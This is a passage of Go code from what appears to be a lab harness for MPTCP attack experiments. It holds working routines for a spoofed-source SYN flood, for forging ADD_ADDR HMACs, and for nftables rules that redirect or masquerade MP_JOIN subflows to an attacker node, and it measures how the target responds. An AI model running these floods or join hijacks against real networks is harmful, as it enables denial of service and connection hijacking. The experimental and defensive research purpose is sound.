			Seq: seg.Seq + uint32(len(seg.Payload)), Ack: seg.Ack, Flags: mptcpwire.ACK, Window: seg.Window, Options: opts,
		})
		if err == nil {
			r.injected.Add(1)
		}
		return err
	})
	return nil
}

// AddAddrHMAC is ADD_ADDR's truncated HMAC for an IPv4 address (RFC 8684
// sec. 3.4.1): HMAC-SHA256 keyed by the announcer's key then the peer's,
// over address id, address and port; the rightmost 64 bits.
func AddAddrHMAC(senderKey, peerKey uint64, id uint8, addr netip.Addr, port uint16) uint64 {
	key := binary.BigEndian.AppendUint64(binary.BigEndian.AppendUint64(nil, senderKey), peerKey)
	a := addr.As4()
	// The port is always part of the message, 0 when none (as Linux
	// computes it, add_addr_generate_hmac).
	msg := binary.BigEndian.AppendUint16(append([]byte{id}, a[:]...), port)
	m := hmac.New(sha256.New, key)
	m.Write(msg)
	sum := m.Sum(nil)
	return binary.BigEndian.Uint64(sum[len(sum)-8:])
}

// startSYNFlood sends SYNs (MP_CAPABLE unless PlainSYN) from spoofed random
// sources to the target and counts, on the attacker's tap, what the
// target sends back to those sources.
func (r *Run) startSYNFlood(ctx context.Context) error {
	// The server's answers to the spoofed sources end here silently, as at
	// an address that does not answer: without the route the attacker's
	// kernel would send ICMP net unreachable, which makes the server drop
	// the half-open connection (tcp_req_err) and so hides the SYN/ACK
	// retransmissions that a real flood's victim sends.
	dst := &net.IPNet{IP: floodSources.Addr().AsSlice(), Mask: net.CIDRMask(floodSources.Bits(), 32)}
	if err := r.lab.Do(r.cfg.Attacker, func() error {
		return netlink.RouteAdd(&netlink.Route{Dst: dst, Type: unix.RTN_BLACKHOLE})
	}); err != nil {
		return fmt.Errorf("attack: blackhole route for %s in %s: %w", floodSources, r.cfg.Attacker, err)
	}
	node := r.cfg.Attacker
	r.cleanup = append(r.cleanup, func() {
		_ = r.lab.Do(node, func() error { return netlink.RouteDel(&netlink.Route{Dst: dst, Type: unix.RTN_BLACKHOLE}) })
	})
	s, err := r.openSender()
	if err != nil {
		return err
	}
	sn, err := r.openSniffer()
	if err != nil {
		return err
	}
	r.wg.Add(1)
	go r.sniffLen(sn, func(seg *mptcpwire.Segment, n int) {
		if seg.Src != r.cfg.Target.Addr() || !floodSources.Contains(seg.Dst) {
			return
		}
		r.outPkts.Add(1)
		r.outBytes.Add(uint64(n))
		if seg.Flags&mptcpwire.SYN != 0 && seg.Flags&mptcpwire.ACK != 0 {
			r.synacks.Add(1)
		}
		if seg.Flags&mptcpwire.RST != 0 {
			r.outRST.Add(1)
		}
		for _, o := range seg.Options {
			if o.Kind != mptcpwire.OptMPTCP {
				continue
			}
			if o.Subtype() == mptcpwire.MPCapable {
				r.outCapable.Add(1)
			} else {
				r.outOther.Add(1)
			}
		}
	})
	r.wg.Add(1)
	go r.paced(ctx, func() error {
		port := r.cfg.Target.Port()
		if r.cfg.ProbeRate > 0 && random32()%2 == 0 {
			port = r.cfg.ProbePort // the prober's listener too
		}
		opts := []mptcpwire.Option{{Kind: mptcpwire.OptMSS, Data: []byte{0x05, 0xb4}}}
		if !r.cfg.PlainSYN {
			opts = append(opts, mptcpwire.CapableSYN())
		}
		n, err := s.sendLen(&mptcpwire.Segment{
			Src: randomFloodSource(), Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
			SrcPort: uint16(1024 + random32()%60000), DstPort: port, Seq: random32(),
			Flags: mptcpwire.SYN, Window: 64240, Options: opts,
		})
		if err == nil {
			r.inBytes.Add(uint64(n))
		}
		return err
	})
	return nil
}

func randomFloodSource() netip.Addr {
	return netip.AddrFrom4([4]byte{198, 18, byte(random32()), byte(1 + random32()%254)})
}

// startJoinSubst installs, in the attacker node, an nftables NAT rule for
// MP_JOIN SYNs toward the target's address (tcp option 30, subtype 1; any
// port, so the prober's joins too): DNAT to the node's own address, ports
// unchanged, where MPTCP listeners on the target's and the prober's ports
// accept (join-redirect), or SNAT to its own address (join-masquerade).
// join-redirect also takes the joins addressed to the node itself (a relay
// or waypoint there, before its own NAT) to the listener on the target's
// port: a malicious relay sending the detour's join elsewhere.
// Stop reads the rule's counter (attack.injected: joins rewritten) and
// removes the table.
func (r *Run) startJoinSubst() error {
	own := r.lab.Addr(r.cfg.Attacker)
	for _, port := range []uint16{r.cfg.Target.Port(), r.cfg.ProbePort} {
		if r.cfg.Kind != JoinRedirect {
			break
		}
		// Joins the other peer completed are counted (none expected).
		if err := r.acceptAndClose(r.cfg.Attacker, netip.AddrPortFrom(own, port), func() { r.synacks.Add(1) }); err != nil {
			return fmt.Errorf("attack: the other peer's listener in %s: %w", r.cfg.Attacker, err)
		}
	}
	return r.lab.Do(r.cfg.Attacker, func() error {
		c, err := nftables.New()
		if err != nil {
			return err
		}
		t := c.AddTable(&nftables.Table{Family: nftables.TableFamilyIPv4, Name: "mpdetour_attack_subst"})
		hook, prio, typ := nftables.ChainHookPrerouting, nftables.ChainPriorityRef(*nftables.ChainPriorityNATDest-10), expr.NATTypeDestNAT
		if r.cfg.Kind == JoinMasquerade {
			hook, prio, typ = nftables.ChainHookPostrouting, nftables.ChainPriorityRef(*nftables.ChainPriorityNATSource-10), expr.NATTypeSourceNAT
		}
		ch := c.AddChain(&nftables.Chain{Name: "subst", Table: t, Type: nftables.ChainTypeNAT, Hooknum: hook, Priority: prio})
		dst := r.cfg.Target.Addr().As4()
		a := own.As4()
		// match: an MP_JOIN SYN (SYN without ACK, tcp option 30 whose
		// first data byte has subtype MP_JOIN); then count and NAT.
		join := func(head ...expr.Any) []expr.Any {
			return append(append([]expr.Any{
				&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
			}, head...),
				&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.SYN | mptcpwire.ACK}, Xor: []byte{0}},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{mptcpwire.SYN}},
				&expr.Exthdr{Op: expr.ExthdrOpTcpopt, Type: mptcpwire.OptMPTCP, Offset: 2, Len: 1, DestRegister: 1},
				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{0xf0}, Xor: []byte{0}},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{mptcpwire.MPJoin << 4}},
				&expr.Counter{},
				&expr.Immediate{Register: 1, Data: a[:]},
			)
		}
		// Joins toward the target: the address rewritten, ports unchanged.
		c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: append(join(
			&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseNetworkHeader, Offset: 16, Len: 4},
			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: dst[:]},
		), &expr.NAT{Type: typ, Family: unix.NFPROTO_IPV4, RegAddrMin: 1})})
		if r.cfg.Kind == JoinRedirect {
			// Joins addressed to this node itself (to a relay's or a
			// waypoint's port here, before that NAT): to the other peer's
			// listener on the target's port.
			c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: append(join(
				&expr.Fib{Register: 1, FlagDADDR: true, ResultADDRTYPE: true},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: binary.NativeEndian.AppendUint32(nil, unix.RTN_LOCAL)},
			),
				&expr.Immediate{Register: 2, Data: binary.BigEndian.AppendUint16(nil, r.cfg.Target.Port())},
				&expr.NAT{Type: typ, Family: unix.NFPROTO_IPV4, RegAddrMin: 1, RegProtoMin: 2, Specified: true})})
		}
		if err := c.Flush(); err != nil {
			return fmt.Errorf("attack: nftables %s rule: %w", r.cfg.Kind, err)
		}
		node := r.cfg.Attacker
		r.cleanup = append(r.cleanup, func() {
			_ = r.lab.Do(node, func() error {
				c, err := nftables.New()
				if err != nil {
					return err
				}
				if rules, err := c.GetRules(t, ch); err == nil {
					var n uint64
					for _, rl := range rules {
						for _, e := range rl.Exprs {
							if ctr, ok := e.(*expr.Counter); ok {
								n += ctr.Packets
							}
						}
					}
					r.injected.Store(n)
				}
				c.DelTable(t)
				return c.Flush()
			})
		})
		return nil
	})
}
